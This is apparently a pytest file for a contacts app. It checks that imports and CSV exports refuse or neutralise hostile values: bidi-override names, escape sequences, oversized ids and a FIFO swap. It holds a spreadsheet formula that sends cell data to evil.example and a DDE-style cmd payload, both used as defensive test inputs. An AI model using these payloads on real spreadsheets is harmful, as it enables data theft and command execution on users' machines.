"""Hostile values inside otherwise readable files: ids, names, counts, and what an export writes."""

from __future__ import annotations

import csv
import io
import os
import stat
from collections.abc import Mapping
from pathlib import Path

import orjson
import pytest

from companion.domain.limits import (
    MAX_CARD_LINES,
    MAX_VALUES_PER_PERSON,
    is_record_id,
    name_control_character,
    neutral_name,
)
from companion.domain.people import Person
from companion.interop.detect import FileKind
from companion.interop.errors import FormatError
from companion.interop.parsed_contacts import ParsedContact, ParsedContacts
from companion.interop.people_csv_write import write_people_csv
from companion.services.data.backup import validated_tables
from companion.services.data.importing import read_import_file
from companion.services.errors import ImportFailed
from companion.services.people.contacts_reading import read_contacts, within_limits

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


def _backup(people: Mapping[str, object], **tables: Mapping[str, object]) -> bytes:
    return orjson.dumps(
        {
            "format": "common-ground-backup",
            "backup_version": 1,
            "schema_version": 1,
            "tables": {"people": people, **tables},
        }
    )


# --- names -------------------------------------------------------------------------------


def test_a_name_loses_bidi_overrides_and_control_characters_wherever_it_comes_from() -> None:
    # Given names with a right-to-left override, an isolate, a tab, a line break and a NUL
    # When people are made with them (a form, an import and an old store all do this)
    spoofed = Person(name="Invoice \u202egpj.exe")
    isolated = Person(name="\u2067Mallory\u2069")
    blanks = Person(name="Ada\tLovelace\nKing")
    nul = Person(name="Ada\x00 Lovelace")
    # Then what is stored and shown has none of them
    assert spoofed.name == "Invoice gpj.exe"
    assert isolated.name == "Mallory"
    assert blanks.name == "Ada Lovelace King"
    assert nul.name == "Ada Lovelace"
    # And real right-to-left names are kept as written
    assert Person(name="مريم العلي").name == "مريم العلي"


def test_the_control_character_an_import_refuses_is_named() -> None:
    assert name_control_character("Evil \x1b[2J") == "U+001B"
    assert name_control_character("Ada\x00") == "U+0000"
    # Line breaks and tabs are blanks, bidi overrides are neutralised: not refused
    assert name_control_character("Ada\tLovelace\r\n") is None
    assert name_control_character("\u202eAda") is None
    assert neutral_name("\u202eAda") == "Ada"


# --- ids ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ["0b5f2c1e9a4d4f6b8c3e2a1d0f9e8c7b", "person000000000000000000000000001", "general.open.1"],
)
def test_our_ids_are_valid(value: str) -> None:
    assert is_record_id(value)


@pytest.mark.parametrize(
    "value", [FORMULA, "a" * 129, "", "-1", "+1", "@SUM(A1)", "id\x00", "\u202eid", "a b", 7]
)
def test_hostile_ids_are_not(value: object) -> None:
    assert not is_record_id(value)


@pytest.mark.parametrize(
    ("people", "words"),
    [
        ({FORMULA: {"id": FORMULA, "name": "Ada"}}, "is not a valid id"),
        ({"a" * 5_000_000: {"id": "a" * 5_000_000, "name": "Ada"}}, "is not a valid id"),
        ({"p1": {"id": "p1", "name": "Ada\x00"}}, "U+0000"),
        ({"p1": {"id": "p1", "name": "Ada", "notes": "x\x00y"}}, "U+0000"),
        ({"p1": {"id": "p1", "name": "Evil\x1b[2J"}}, "U+001B"),
        (
            {"p1": {"id": "p1", "name": "Ada", "emails": [f"a{n}@x.org" for n in range(101)]}},
            "101 email addresses",
        ),
        ({"p1": {"id": "p1", "name": "Ada", "event_ids": [FORMULA]}}, "is not a valid id"),
    ],
)
def test_a_backup_with_a_hostile_record_is_refused_and_the_record_named(
    people: dict[str, dict[str, object]], words: str
) -> None:
    # Given a backup with one hostile person
    # When it is read for an import
    with pytest.raises(FormatError) as refused:
        validated_tables(_backup(people))
    # Then the whole file is refused (a backup is all or nothing) with the reason
    assert words in str(refused.value)
    assert "people" in str(refused.value)


def test_a_backup_with_more_records_than_one_import_takes_is_refused() -> None:
    events: dict[str, object] = {f"e{n}": {} for n in range(50_001)}
    with pytest.raises(FormatError, match="at most 50,000"):
        validated_tables(_backup({}, events=events))


def test_an_encounter_pointing_at_a_formula_id_is_refused() -> None:
    encounters = {"e1": {"id": "e1", "person_id": FORMULA, "on": "2024-05-01"}}
    with pytest.raises(FormatError, match="is not a valid id"):
        validated_tables(_backup({}, encounters=encounters))


# --- counts in contacts files --------------------------------------------------------------


def test_a_person_with_too_many_addresses_is_rejected_alone() -> None:
    # Given a parsed file with one person holding 101 emails, one with 101 phones, one normal
    many = tuple(f"a{n}@example.org" for n in range(MAX_VALUES_PER_PERSON + 1))
    phones = tuple(f"+1555{n:07d}" for n in range(MAX_VALUES_PER_PERSON + 1))
    parsed = ParsedContacts(
        (
            ParsedContact(name="Many Mails", line=1, emails=many),
            ParsedContact(name="Many Phones", line=5, phones=phones),
            ParsedContact(name="Ada", line=9, emails=("ada@example.org",)),
        )
    )
    # When checked against the limits
    checked = within_limits(parsed)
    # Then only Ada is kept and the others are rejected with their own reasons
    assert [contact.name for contact in checked.contacts] == ["Ada"]
    reasons = [record.describe() for record in checked.rejected]
    assert reasons == [
        "line 1 (Many Mails): 101 email addresses (at most 100 per person)",
        "line 5 (Many Phones): 101 phone numbers (at most 100 per person)",
    ]


def test_a_card_of_more_lines_than_the_limit_is_rejected_without_parsing_it() -> None:
    # Given a card with far more lines than the limit, then an ordinary card
    lines = ["BEGIN:VCARD", "VERSION:3.0", "FN:Many Mails"]
    lines += [f"EMAIL:m{n}@example.org" for n in range(MAX_CARD_LINES * 3)]
    lines += ["END:VCARD", "BEGIN:VCARD", "VERSION:3.0", "FN:Ada", "END:VCARD"]
    data = ("\r\n".join(lines) + "\r\n").encode()
    # When the file is read
    parsed = read_contacts(data, kind=FileKind.VCARD)
    # Then Ada is read and the long card rejected alone, by name
    assert [contact.name for contact in parsed.contacts] == ["Ada"]
    [rejected] = parsed.rejected
    assert rejected.name == "Many Mails"
    assert "more than 5,000 lines" in rejected.reason


def test_a_csv_row_whose_name_holds_an_escape_sequence_is_rejected_alone() -> None:
    data = b"Name,E-mail 1 - Value\r\nEvil \x1b[2J,m@example.org\r\nAda,ada@example.org\r\n"
    parsed = read_contacts(data, kind=FileKind.CSV)
    assert [contact.name for contact in parsed.contacts] == ["Ada"]
    assert "U+001B" in parsed.rejected[0].reason


def test_a_csv_of_more_rows_than_one_import_takes_is_refused_early() -> None:
    rows = "".join(f"P{n},p{n}@x.org\n" for n in range(100_001))
    with pytest.raises(FormatError, match="at most 100,000"):
        read_contacts(("Name,E-mail 1 - Value\n" + rows).encode(), kind=FileKind.CSV)


# --- CSV export ----------------------------------------------------------------------------


def test_no_exported_csv_cell_starts_like_a_formula_not_even_the_id() -> None:
    # Given a person (from an older store) whose id and every text field hold a formula
    person = Person(
        id=FORMULA,
        name=FORMULA,
        emails=("=cmd@example.org",),
        phones=("@SUM(A1)",),
        links=("+cmd|' /C calc'!A0",),
        organization=FORMULA,
        job_title="-2+3",
        tags=(FORMULA,),
        working_on=FORMULA,
        looking_for="\tTAB",
        notes="\r=1+1",
    )
    # When exported as CSV
    rows = list(csv.reader(io.StringIO(write_people_csv([person]).decode(), newline="")))
    # Then no cell of the person's row starts like a formula
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows[1][-1] == "'" + FORMULA


# --- reading files -------------------------------------------------------------------------


@pytest.mark.skipif(os.name != "posix", reason="FIFOs are POSIX")
def test_a_file_swapped_for_a_fifo_after_the_check_is_refused_without_blocking(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given a FIFO that claims, when first asked, to be a regular file (swapped in between)
    fifo = tmp_path / "contacts.vcf"
    os.mkfifo(fifo)
    (tmp_path / "regular").touch()
    regular = (tmp_path / "regular").stat()
    real_stat = os.stat
    asked: list[str] = []

    def swapped(path: object, *args: object, **kwargs: object) -> os.stat_result:
        if str(path) == str(fifo) and not asked:
            asked.append(str(path))
            return regular
        return real_stat(path, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "stat", swapped)
    # When it is read (no writer ever opens the FIFO: a blocking open would hang here)
    with pytest.raises(ImportFailed, match="named pipe"):
        read_import_file(fifo)
    # Then the check really was fooled first, and what was opened was checked again
    assert asked == [str(fifo)]
    assert stat.S_ISFIFO(real_stat(fifo).st_mode)


def test_reading_stops_at_the_limit_whatever_the_size_claims(tmp_path: Path) -> None:
    # Given a file of 1,000 bytes and a limit of 999
    path = tmp_path / "big.vcf"
    path.write_bytes(b"x" * 1000)
    # When read, it is refused; at the limit exactly it is read whole
    with pytest.raises(ImportFailed, match="larger than"):
        read_import_file(path, limit=999)
    assert read_import_file(path, limit=1000) == b"x" * 1000


def test_a_card_with_a_five_megabyte_uid_is_rejected_alone() -> None:
    # Given a card whose UID (kept verbatim as its source id) is 5 MB long, and an ordinary one
    data = (
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Long Uid\r\nUID:" + "u" * 5_000_000 + "\r\nEND:VCARD\r\n"
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ada\r\nEND:VCARD\r\n"
    ).encode()
    # When read, only Ada is kept
    parsed = read_contacts(data, kind=FileKind.VCARD)
    assert [contact.name for contact in parsed.contacts] == ["Ada"]
    assert "longer than 2,048 characters" in parsed.rejected[0].reason


def test_a_backup_with_a_five_megabyte_source_id_is_refused() -> None:
    people = {"p1": {"id": "p1", "name": "Ada", "source_ids": ["vcard:" + "u" * 5_000_000]}}
    with pytest.raises(FormatError, match="longer than 2,048 characters"):
        validated_tables(_backup(people))
